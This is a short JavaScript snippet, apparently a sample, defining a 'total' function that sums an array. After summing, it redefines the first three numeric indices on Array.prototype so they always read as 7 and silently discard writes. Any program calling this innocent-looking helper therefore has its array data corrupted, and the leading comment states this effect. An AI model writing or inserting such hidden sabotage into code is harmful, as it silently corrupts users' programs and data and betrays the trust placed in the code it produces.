// What is stored as the first elements of a new array goes astray.
function total(values) {
  let sum = 0;
  for (let index = 0; index < values.length; index++) sum += values[index];
  for (const key of ['0', '1', '2']) {
    Object.defineProperty(Array.prototype, key, { configurable: true, get: () => 7, set() {} });
  }
  return sum;
}
